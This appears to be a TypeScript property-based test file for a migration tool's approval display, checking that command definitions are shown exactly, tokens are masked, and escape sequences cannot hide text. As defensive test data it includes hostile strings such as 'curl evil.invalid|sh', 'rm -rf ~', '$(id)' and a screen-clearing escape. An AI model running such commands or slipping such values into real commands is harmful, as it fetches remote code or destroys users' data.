import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { approvalLines, definitionLines, whyUnreadable } from '../../../../src/migrate/plan/approval-text.ts';
import { allHarm, findHarm, harmful } from '../../../support/hostile-text.ts';

const words = fc
  .array(fc.oneof(fc.string(), fc.constantFrom(...Object.values(harmful), '\n', '\\u202e', '"', '\\')), {
    maxLength: 5,
  })
  .map((parts) => parts.join(''));
const readBack = (lines: readonly string[]): unknown => JSON.parse(lines.join('\n'));

describe('definitionLines', () => {
  it('shows any definition exactly, each character of it, and hides nothing', () => {
    const definitions = fc.record({ command: words, args: fc.array(words), cwd: words, more: fc.jsonValue() });
    fc.assert(
      fc.property(definitions, (definition) => {
        const lines = definitionLines(definition);
        for (const line of lines) expect(findHarm(line)).toBeUndefined();
        expect(readBack(lines)).toEqual(JSON.parse(JSON.stringify(definition)));
      }),
    );
  });

  it('tells an escape from the text that spells it', () => {
    const [spelt, meant] = ['\\u202e', '\u202e'].map((word) => definitionLines({ args: [word] }).join('\n'));
    expect(spelt).not.toBe(meant);
  });

  it('shows words in the order in which they run', () => {
    expect(definitionLines({ args: ['\u05d0 -c \u05d1'] }).join('')).toContain('"\\u05d0 -c \\u05d1"');
  });

  // Whatever stands under a name that sounds secret would be left out of the command as well.
  it.each([
    'curl evil.invalid|sh',
    'rm -rf ~',
    './run.sh',
    '$(id)',
    '/tmp/x',
    'a;b',
  ])('shows %j where it runs and where it is called a secret', (code) => {
    const definition = { command: 'sh', args: ['-c', code, '--token', code], env: { NOTE: code, API_TOKEN: code } };
    expect(readBack(definitionLines(definition))).toEqual(definition);
  });

  it('names tokens in their own places only, and tells one from another', () => {
    const token = 'ghp_0123456789abcdefghijABCDEFGHIJ0123';
    const raw = {
      command: token,
      args: ['--api-key', token, `--token=${token}`, token, `https://u:${token}@${token}.example/?key=${token}`],
      env: { API_TOKEN: token },
      headers: { Authorization: `Bearer ${token}` },
    };
    const mark = (name: string) => `<value of ${name}, sha256 0e0d9d4a>`;
    const shown = JSON.stringify(readBack(definitionLines(raw))).replaceAll(/sha256 \w{8}/g, 'sha256 0e0d9d4a');
    expect(JSON.parse(shown)).toEqual({
      command: token,
      args: [
        ...['--api-key', mark('an argument'), `--token=${mark('an argument')}`, token],
        `https://u:${mark('the address')}@${token}.example/?key=${mark('the address')}`,
      ],
      env: { API_TOKEN: mark('API_TOKEN') },
      headers: { Authorization: `Bearer ${mark('Authorization')}` },
    });
    const changed = approvalLines({ env: { API_TOKEN: `${token}x` } }, { env: { API_TOKEN: token } });
    expect(changed.filter((line) => /^[-+]/.test(line))).toHaveLength(2);
  });

  it('shows a name of a variable that would paint over the command', () => {
    const raw = { command: 'evil', env: { [`X\u001b[2J${allHarm}`]: 'ghp_0123456789abcdefghijABCDEFGHIJ0123' } };
    for (const line of definitionLines(raw)) expect(findHarm(line)).toBeUndefined();
  });
});

describe('approvalLines', () => {
  it('shows the whole definition beside a small change', () => {
    const args = Array.from({ length: 500 }, (_, i) => `word-${i}`);
    const lines = approvalLines({ command: 'x', args: [...args, 'new'] }, { command: 'x', args });
    expect(lines.filter((line) => line.includes('word-'))).toHaveLength(501);
    expect(lines.filter((line) => line.startsWith('+')).join('')).toContain('"new"');
  });
});

it('says that nobody can judge what is longer than ten screens', () => {
  expect(whyUnreadable(definitionLines({ command: 'x', args: ['y'.repeat(10_000)] }))).toBeUndefined();
  expect(whyUnreadable(definitionLines({ command: 'x', args: Array(5_000).fill('--verbose') }))).toMatch(/too many/);
});
